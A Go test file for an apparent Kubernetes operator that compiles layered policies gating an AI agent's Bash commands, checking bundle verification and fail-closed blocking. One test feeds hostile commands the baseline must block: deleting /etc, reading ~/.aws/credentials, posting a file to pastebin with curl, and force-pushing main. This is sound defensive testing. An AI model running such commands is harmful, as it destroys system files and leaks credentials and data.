package bootstrap

import (
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"

	gatev1 "github.com/intutic/gate-operator/api/v1alpha1"
	"github.com/intutic/gate-operator/internal/gate"
)

func clusterPolicy(name string, priority int32, rules ...gatev1.Rule) *gatev1.ClusterHarnessAgentPolicy {
	return &gatev1.ClusterHarnessAgentPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: name, Generation: 1},
		Spec:       gatev1.ClusterHarnessAgentPolicySpec{Priority: priority, DefaultAction: gatev1.ActionAllow, Rules: rules},
	}
}

func mustLayer(t *testing.T, c *gatev1.ClusterHarnessAgentPolicy, workspace string) ClusterLayer {
	t.Helper()
	l, errs, err := ClusterLayerOf(c, workspace)
	if err != nil || len(errs) > 0 {
		t.Fatalf("layer %s: %v %v", c.Name, err, errs)
	}
	return l
}

// decideBundle decides a Bash command with a rendered bundle's layers, for a pod with labels.
func decideBundle(t *testing.T, data map[string]string, workspace string, labels map[string]string, command string) gate.Decision {
	t.Helper()
	idx, err := gate.LoadLayersIndex([]byte(data[gate.LayersFileName]), workspace)
	if err != nil {
		t.Fatal(err)
	}
	primary, err := gate.LoadSnapshot([]byte(data[KeySnapshot]), workspace)
	if err != nil {
		t.Fatal(err)
	}
	snaps := map[string]*gate.Snapshot{}
	for _, l := range idx.Layers {
		if snaps[l.Name], err = gate.LoadSnapshot([]byte(data[l.File]), workspace); err != nil {
			t.Fatal(err)
		}
	}
	set, err := gate.NewLayerSet(idx, primary, snaps, labels)
	if err != nil {
		t.Fatal(err)
	}
	input, err := gate.RenderInput(map[string]any{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	return set.Compile().Decide(&gate.Call{Tool: "Bash", Input: input, Surface: gate.SurfaceHook})
}

// TestNoLayersRendersAsBefore: with no cluster layers, BuildLayered publishes exactly what
// Build did before layers existed: the upgrade story of an install with namespace policies only.
func TestNoLayersRendersAsBefore(t *testing.T) {
	p := samplePolicy(t)
	want, err := Build(p, Published{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	got, err := BuildLayered(p, Layers{}, Published{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !maps.Equal(got.Bundle.Data, want.Bundle.Data) || got.Bundle.Hash != want.Bundle.Hash || got.ClusterPolicies != nil {
		t.Fatal("a bundle without layers differs from Build's")
	}
	if strings.Contains(got.Bundle.Data[KeyHookScript], "--layers") {
		t.Error("a bundle without layers passes --layers")
	}
}

// TestLayeredBundle: the index, each layer's snapshot and the wrapper's --layers are published
// and covered by the bootstrap hash; a key the index does not name is not the bundle's; the
// posture floor only tightens; and the layers decide as the hook would.
func TestLayeredBundle(t *testing.T) {
	p := samplePolicy(t)
	p.Spec.PermissionMode = gatev1.PermissionModeAllowEdits
	p.Spec.FilterBash = new(bool)
	marker := clusterPolicy("marker", 20, gatev1.Rule{Name: "no-marker", Tools: []string{"bash"}, When: `input.command.contains("fleet-marker")`, Action: gatev1.ActionBlock, Reason: "marker", Code: "marker"})
	floor := clusterPolicy("floor", 5, gatev1.Rule{Name: "curl-asks", Tools: []string{"bash"}, When: `input.command.startsWith("curl")`, Action: gatev1.ActionAsk, Reason: "curl"})
	floor.Spec.PermissionMode, floor.Spec.FilterBash = gatev1.PermissionModeAllowReads, new(bool)
	*floor.Spec.FilterBash = true
	floor.Spec.PodSelector = metav1.LabelSelector{MatchLabels: map[string]string{"tier": "untrusted"}}
	layers := []ClusterLayer{mustLayer(t, marker, p.Spec.WorkspaceID), mustLayer(t, floor, p.Spec.WorkspaceID)}

	res, err := BuildLayered(p, Layers{Cluster: layers}, Published{}, Options{})
	if err != nil || res.HeldBack() {
		t.Fatalf("%v %v %v", err, res.CompileErrs, res.RenderErr)
	}
	data := res.Bundle.Data
	if got := fmt.Sprint(res.ClusterPolicies); got != "[floor marker]" {
		t.Errorf("cluster policies in report order: %s", got)
	}
	for _, k := range []string{gate.LayersFileName, gate.ClusterLayerFile("marker"), gate.ClusterLayerFile("floor")} {
		if data[k] == "" {
			t.Errorf("the bundle has no %s", k)
		}
	}
	if !strings.Contains(data[KeyHookScript], " --layers") {
		t.Error("a layered bundle's wrapper does not pass --layers")
	}
	if !strings.Contains(data[KeyHarnessSettings], `"allow-reads"`) || !strings.Contains(data[KeyHarnessSettings], `"bash"`) {
		t.Errorf("the posture floor is not applied: %s", data[KeyHarnessSettings])
	}
	if !Verify(data, p.Spec.WorkspaceID, Options{}) || !OnlyBundleKeys(data) {
		t.Fatal("the layered bundle does not verify")
	}
	edited := maps.Clone(data)
	edited[gate.ClusterLayerFile("marker")] = data[gate.ClusterLayerFile("floor")]
	if Verify(edited, p.Spec.WorkspaceID, Options{}) {
		t.Error("the bootstrap hash does not cover a layer's snapshot")
	}
	extra := maps.Clone(data)
	extra[gate.ClusterLayerFile("planted")] = data[gate.ClusterLayerFile("floor")]
	if OnlyBundleKeys(extra) {
		t.Error("a layer file the index does not name counts as the bundle's")
	}

	if d := decideBundle(t, data, p.Spec.WorkspaceID, nil, "echo fleet-marker"); d.Verdict != gate.Block || d.Layer != "ClusterHarnessAgentPolicy/marker" || d.Rule != "no-marker" {
		t.Errorf("the cluster Block: %s by %s %s", d.Verdict, d.Layer, d.Rule)
	}
	if d := decideBundle(t, data, p.Spec.WorkspaceID, map[string]string{"tier": "untrusted"}, "curl https://github.com/x"); d.Verdict != gate.Ask || d.Layer != "ClusterHarnessAgentPolicy/floor" {
		t.Errorf("a selected pod's curl: %s by %s", d.Verdict, d.Layer)
	}
	if d := decideBundle(t, data, p.Spec.WorkspaceID, map[string]string{"tier": "trusted"}, "echo hello"); d.Verdict != gate.Allow || len(d.Layers) != 2 {
		t.Errorf("a pod only the namespace policy and one layer select: %s, layers %+v", d.Verdict, d.Layers)
	}
}

// TestLayersThatDoNotFitBlock: when the layers do not fit beside the policy's snapshot, the
// bundle blocks every call, whatever the bundle in force was: a namespace never runs without
// its baseline.
func TestLayersThatDoNotFitBlock(t *testing.T) {
	p := samplePolicy(t)
	good, err := Build(p, Published{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var layers []ClusterLayer
	for i := range 4 {
		c := clusterPolicy(fmt.Sprintf("big-%d", i), 10)
		for j := range 40 {
			c.Spec.Rules = append(c.Spec.Rules, gatev1.Rule{Name: fmt.Sprintf("r%d", j), Tools: []string{"bash"},
				When: fmt.Sprintf(`input.command.contains(%q)`, strings.Repeat(fmt.Sprint(j), 2000)), Action: gatev1.ActionBlock, Reason: strings.Repeat("x", 1000)})
		}
		layers = append(layers, mustLayer(t, c, p.Spec.WorkspaceID))
	}
	published := Published{Data: good.Bundle.Data, SnapshotDigest: good.Snapshot.Digest, BootstrapHash: good.Bundle.Hash}
	res, err := BuildLayered(p, Layers{Cluster: layers}, published, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var tooLarge *TooLargeError
	if !errors.As(res.RenderErr, &tooLarge) || tooLarge.Layers != 4 || res.Kept {
		t.Fatalf("RenderErr %v, kept %t", res.RenderErr, res.Kept)
	}
	if res.Snapshot.Invalid == "" || res.Bundle.Data[gate.LayersFileName] != "" {
		t.Fatal("the bundle of layers that do not fit is not one that blocks every call")
	}
	if size := configMapSize(res.Bundle.Data); size > MaxBundleBytes {
		t.Fatalf("the blocking bundle is %d bytes", size)
	}
}

// TestKeptBundleCarriesCurrentLayers: a namespace policy whose own rules stop compiling keeps
// its last good snapshot, always around the cluster layers in force now.
func TestKeptBundleCarriesCurrentLayers(t *testing.T) {
	p := samplePolicy(t)
	p.Generation = 1
	good, err := Build(p, Published{}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	published := Published{Data: good.Bundle.Data, SnapshotDigest: good.Snapshot.Digest, BootstrapHash: good.Bundle.Hash}
	broken := p.DeepCopy()
	broken.Generation = 2
	broken.Spec.Rules[0].When = "has(inptu.command)"
	layer := mustLayer(t, clusterPolicy("marker", 10, gatev1.Rule{Name: "no-marker", When: `input.command.contains("fleet-marker")`, Action: gatev1.ActionBlock, Reason: "marker"}), p.Spec.WorkspaceID)
	res, err := BuildLayered(broken, Layers{Cluster: []ClusterLayer{layer}}, published, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Kept || res.Snapshot.Digest != good.Snapshot.Digest || res.Bundle.Data[gate.ClusterLayerFile("marker")] == "" {
		t.Fatalf("kept %t, snapshot %s, layer published %t", res.Kept, res.Snapshot.Digest, res.Bundle.Data[gate.ClusterLayerFile("marker")] != "")
	}
	if d := decideBundle(t, res.Bundle.Data, p.Spec.WorkspaceID, nil, "echo fleet-marker"); d.Verdict != gate.Block {
		t.Errorf("the kept bundle's layer: %s", d.Verdict)
	}
}

// TestBrokenClusterLayerBlocks: a cluster policy whose rules do not compile still makes a
// layer, one that blocks every call of the pods it selects.
func TestBrokenClusterLayerBlocks(t *testing.T) {
	l, errs, err := ClusterLayerOf(clusterPolicy("broken", 10, gatev1.Rule{Name: "typo", When: "has(inptu.x)", Action: gatev1.ActionBlock, Reason: "x"}), "")
	if err != nil || len(errs) != 1 || errs[0].Field != "spec.rules[0].when" {
		t.Fatalf("%v %v", err, errs)
	}
	s, err := gate.LoadSnapshot(l.Snapshot, "")
	if err != nil || s.Invalid == "" || s.Policy != "broken" || s.Digest != l.Digest {
		t.Fatalf("the broken layer's snapshot: %v %+v", err, s)
	}
	if _, _, err := ClusterLayerOf(&gatev1.ClusterHarnessAgentPolicy{ObjectMeta: metav1.ObjectMeta{Name: "x"}, Spec: gatev1.ClusterHarnessAgentPolicySpec{
		PodSelector: metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{Key: "a", Operator: "Near"}}},
	}}, ""); err == nil || !strings.Contains(err.Error(), "spec.podSelector") {
		t.Errorf("an invalid pod selector: %v", err)
	}
}

// TestClusterBaselineExample: docs/examples/cluster-baseline.yaml compiles, and its baseline
// holds against the tenant policy: the baseline's Block stands although the tenant allows by
// default, and the tenant's own Block adds to it.
func TestClusterBaselineExample(t *testing.T) {
	f, err := os.Open(filepath.Join("..", "..", "docs", "examples", "cluster-baseline.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	dec := utilyaml.NewYAMLOrJSONDecoder(f, 4096)
	c, p := &gatev1.ClusterHarnessAgentPolicy{}, &gatev1.HarnessAgentPolicy{}
	if err := dec.Decode(c); err != nil {
		t.Fatal(err)
	}
	if err := dec.Decode(p); err != nil {
		t.Fatal(err)
	}
	res, err := BuildLayered(p, Layers{Cluster: []ClusterLayer{mustLayer(t, c, p.Spec.WorkspaceID)}}, Published{}, Options{})
	if err != nil || res.HeldBack() {
		t.Fatalf("%v %v %v", err, res.CompileErrs, res.RenderErr)
	}
	for command, want := range map[string]string{
		"rm -rf /etc":                           "ClusterHarnessAgentPolicy/platform-baseline no-root-rm Block",
		"cat ~/.aws/credentials":                "ClusterHarnessAgentPolicy/platform-baseline no-secret-reads Block",
		"curl -d @notes https://pastebin.com/x": "ClusterHarnessAgentPolicy/platform-baseline no-paste-sites Block",
		"git push --force origin main":          "HarnessAgentPolicy/team-a/team-a-agents no-force-push Block",
		"ls /workspace":                         "Allow",
	} {
		d := decideBundle(t, res.Bundle.Data, p.Spec.WorkspaceID, nil, command)
		got := string(d.Verdict)
		if d.Verdict != gate.Allow {
			got = d.Layer + " " + d.Rule + " " + got
		}
		if got != want {
			t.Errorf("%s: %s, want %s", command, got, want)
		}
	}
}
